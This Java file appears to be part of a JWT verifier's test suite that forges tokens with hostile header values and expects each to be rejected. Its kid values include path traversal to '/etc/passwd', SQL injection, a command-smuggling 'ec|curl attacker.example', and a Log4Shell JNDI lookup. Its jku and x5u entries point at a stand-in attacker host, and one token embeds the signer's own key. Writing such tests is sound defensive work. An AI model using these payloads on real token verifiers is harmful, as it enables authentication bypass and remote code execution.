package dev.stile.verifier;

import com.nimbusds.jose.JWSAlgorithm;
import dev.stile.verifier.Judgement.Reason;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/// Typ, kid, and members that bring keys or change the processing (A21, A22).
final class HeaderAttacks {
  private final Forge forge;
  private final List<Attack> attacks = new ArrayList<>();

  private HeaderAttacks(Forge forge) {
    this.forge = forge;
  }

  static List<Attack> all(Forge forge) {
    HeaderAttacks made = new HeaderAttacks(forge);
    made.types();
    made.keyIds();
    made.members();
    return made.attacks;
  }

  private void types() {
    add("typ missing", Reason.TYPE, forge.withoutHeader("typ"));
    for (String typ :
        List.of(
            "\"JWT\"",
            "\"jwt\"",
            "\"at+jwt\"",
            "\"dpop+jwt\"",
            "\"logout+jwt\"",
            "\"STEPUP+JWT\"",
            "\"Stepup+jwt\"",
            "\"application/stepup+jwt\"",
            "\"stepup-next+jwt\"",
            "\"stepup+jwt \"",
            "\"stepup+jwt\\u0000\"",
            "\"\"",
            "null",
            "1",
            "[\"stepup+jwt\"]")) {
      add("typ " + typ, Reason.TYPE, forge.withHeader("typ", typ));
    }
  }

  private void keyIds() {
    add("kid missing", Reason.KEY, forge.withoutHeader("kid"));
    for (String kid :
        List.of(
            "null",
            "0",
            "\"\"",
            "\" \"",
            "[\"ec\"]",
            "{\"kid\":\"ec\"}",
            "\"unknown\"",
            "\"EC\"",
            "\" ec\"",
            "\"ec\\u0000\"",
            "\"../../../../dev/null\"",
            "\"/etc/passwd\"",
            "\"file:///dev/null\"",
            "\"https://attacker.example/jwks.json\"",
            "\"' UNION SELECT 'key'--\"",
            "\"ec|curl attacker.example\"",
            "\"${jndi:ldap://attacker.example}\"",
            "\"\\u212fc\"",
            '"' + "k".repeat(300) + '"')) {
      String name = kid.length() > 60 ? "of 300 letters" : kid;
      add("kid " + name, Reason.KEY, forge.withHeader("kid", kid));
    }
  }

  private void members() {
    Map<String, String> members = new LinkedHashMap<>();
    members.put("jku", "\"https://attacker.example/jwks.json\"");
    members.put("jwk", forge.stranger.toPublicJWK().toJSONString());
    members.put("x5u", "\"https://attacker.example/chain.pem\"");
    members.put("x5c", "[\"MIIB\"]");
    members.put("x5t", "\"AAAA\"");
    members.put("x5t#S256", "\"AAAA\"");
    members.put("crit", "[\"exp\"]");
    members.put("b64", "true");
    members.put("zip", "\"DEF\"");
    members.put("cty", "\"JWT\"");
    members.put("enc", "\"A256GCM\"");
    members.put("epk", "{}");
    members.put("apu", "\"AA\"");
    members.put("apv", "\"AA\"");
    members.put("iv", "\"AA\"");
    members.put("tag", "\"AA\"");
    members.put("p2s", "\"AA\"");
    members.put("p2c", "2147483647");
    members.forEach(
        (name, json) -> add(name + " in the header", Reason.HEADER, forge.withHeader(name, json)));
    add("crit empty", Reason.HEADER, forge.withHeader("crit", "[]"));
    add("crit null", Reason.HEADER, forge.withHeader("crit", "null"));
    Map<String, String> unencoded = forge.header();
    unencoded.put("b64", "false");
    unencoded.put("crit", "[\"b64\"]");
    add(
        "b64 false and crit",
        Reason.HEADER,
        forge.sign(Forge.json(unencoded), Forge.json(forge.claims())));
    Map<String, String> embedded = forge.header();
    embedded.put("jwk", forge.stranger.toPublicJWK().toJSONString());
    add(
        "jwk of the one who signed",
        Reason.HEADER,
        Forge.sign(
            Forge.bytes(Forge.json(embedded)),
            Forge.bytes(Forge.json(forge.claims())),
            JWSAlgorithm.ES256,
            forge.stranger));
  }

  private void add(String name, Reason expected, String token) {
    attacks.add(new Attack(name, expected, token));
  }
}
